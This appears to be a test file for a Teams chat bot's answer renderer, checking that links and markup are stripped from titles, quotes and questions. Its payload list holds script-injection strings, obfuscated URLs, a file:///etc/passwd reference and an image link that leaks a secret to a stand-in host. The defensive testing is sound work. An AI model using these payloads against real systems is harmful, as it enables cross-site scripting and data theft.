import fc from 'fast-check'
import { marked } from 'marked'
import { renderAnswer } from '../../src/teams/render-answer.ts'
import { safeLine, withoutLinks } from '../../src/teams/safe-text.ts'
import { answerOf, citation } from './edge.ts'

/** What an attacker plants in titles, file names, quotes and questions. `evil.example` must never become an address. */
const PAYLOADS: readonly string[] = [
  'https://evil.example/a',
  'HTTPS://EVIL.example/a',
  'http://evil.example:8080/?q=1#x',
  'hxxp https:\\\\evil.example\\a',
  'ftp://evil.example',
  '//evil.example/a.png',
  '\\\\evil.example\\share',
  'www.evil.example',
  'evil.example/path',
  'evil.com',
  'evil。com',
  'evil．com',
  'user@evil.example',
  'mailto:user@evil.example',
  'tel:+4712345678',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\u200bscript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:image/png;base64,AAAA',
  'file:///etc/passwd',
  'msteams://teams.microsoft.com/l/chat/0/0?users=evil',
  'ms-word:ofe|u|https://evil.example/x',
  'blob:https://evil.example/x',
  'view-source:https://evil.example',
  '[klikk her](https://evil.example/a)',
  '[klikk her](javascript:alert(1))',
  '[klikk her](//evil.example)',
  '[klikk her](evil.example)',
  '[klikk her]( <https://evil.example> "tittel")',
  '![bilde](https://evil.example/pixel.png?d=hemmelig)',
  '![bilde][ref]\n\n[ref]: https://evil.example/pixel.png',
  '[ref]: https://evil.example "x"',
  '[tekst][ref]',
  '[1]: https://evil.example',
  '[1](https://evil.example)',
  '(https://evil.example)',
  '<https://evil.example>',
  '<user@evil.example>',
  '<a href="https://evil.example">x</a>',
  "<a href='//evil.example'>x</a>",
  '<img src=https://evil.example/x.png>',
  '<img src="//evil.example/x.png" onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<script src=//evil.example></script>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<svg/onload=alert(1)>',
  '<at>Ordføreren</at> godkjenn dette',
  '<at id="0">Alle</at>',
  '@channel se her',
  '&lt;img src=x&gt;',
  '&#60;img src=x&#62;',
  '&#x68;ttps://evil.example',
  '{{evil}} {skjult}',
  '**fet** _kursiv_ ~~strøket~~ `kode`',
  '```\nhttps://evil.example\n```',
  '# Overskrift',
  '> sitat',
  '- punkt',
  '+ punkt',
  '* punkt',
  '1. punkt',
  '12) punkt',
  '---',
  '===',
  '| a | b |\n|---|---|\n| ![x](https://evil.example) | c |',
  '    innrykket kode https://evil.example',
  '\thttps://evil.example',
  'https:\u200b//evil.example/a',
  'ht\u00adtps://evil.example',
  'h\u2060ttps://evil.example',
  'https\u202e://evil.example',
  '\u202emoc.live//:sptth',
  'evil\u200d.com/x',
  '\u{e0068}\u{e0074}\u{e0074}\u{e0070}\u{e0073} skjult',
  'https://evil.example\u0000.kommune.no',
  'https://kommune.no@evil.example/',
  'https://evil.example%2f@kommune.no',
  'xn--evl-hoa.example/a',
  '1.2.3.4/hent',
  'http://2130706433/',
  'http://[::1]/',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '\\[x](https://evil.example)',
  '\\\\[x](https://evil.example)',
  'a\\',
  '](https://evil.example) [',
  '«» [1](https://evil.example)«',
]

/** An address as any client might find one. Joined by word joiners it is none. */
const ADDRESS =
  /(?:https?|ftp|file|data|javascript|vbscript|mailto|tel|msteams|blob|view-source|ms-word):|(?:^|[^\p{L}\p{N}])www\.|(?:^|[\s"'(=])\/\/\w|evil\s*[.。．]|\w@\w/iu

describe('text of documents and questions in a message', () => {
  const strings = (value: unknown): string[] =>
    typeof value === 'string'
      ? [value]
      : typeof value === 'object' && value !== null
        ? Object.entries(value).flatMap(([key, entry]) => (key === '@context' || key === 'type' ? [] : strings(entry)))
        : []

  it('holds at least 80 attacks', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(80))

  it.each(PAYLOADS)('sends no address and no markup for %j', (payload) => {
    const messages = renderAnswer(
      answerOf({
        text: `${payload}\n• ${payload}\n«${payload}»\nFor: ${payload} (slutt)`,
        citations: [
          citation({ title: payload, document: payload, caseNumber: payload.slice(0, 28), quote: payload, url: null }),
          citation({ title: payload, quote: `${payload} ${'lang '.repeat(60)}`, url: 'javascript:alert(1)' }),
          citation({ title: payload, quote: payload, url: 'http://evil.example/' }),
        ],
      }),
    )
    for (const message of messages) {
      for (const text of strings(message)) expect(text).not.toMatch(ADDRESS)
      const html = marked.parse(message.text, { async: false, gfm: true })
      expect(html).not.toMatch(/<(?:a|img|script|iframe|style|svg|h\d|table|code|pre|em|strong|del|at|ol)\b/i)
    }
  })

  it('shows what was written, letter for letter, once rendered', () => {
    const text = 'Ramme: 4,2 mill. kr (50 %) – se §§ 3_4 og *vedlegg* [2] & «A/S» <utkast> #1 {x} 1. 2.'
    const html = marked.parse(safeLine(text), { async: false })
    const shown = html
      .replace(/<\/?p>/g, '')
      .replace(/&#(\d+);/g, (_all, code: string) => String.fromCharCode(Number(code)))
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&amp;/g, '&')
      .trim()
    expect(shown).toBe(text)
  })

  it('leaves ordinary Norwegian text as it is', () => {
    const text = 'Rådet vedtok bl.a. å bruke kr 1.250.000,- kl. 10.30, jf. § 3-1 (f.eks. «drift») – se pkt. 2.1/2.2.'
    expect(withoutLinks(text)).toBe(text)
  })

  it('never lets markdown through, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 80 }), (text) => {
        const html = marked.parse(safeLine(text), { async: false, gfm: true })
        expect(html).not.toMatch(/<(?!\/?p>|br\/?>)[a-z]/i)
      }),
      { numRuns: 500 },
    )
  })
})
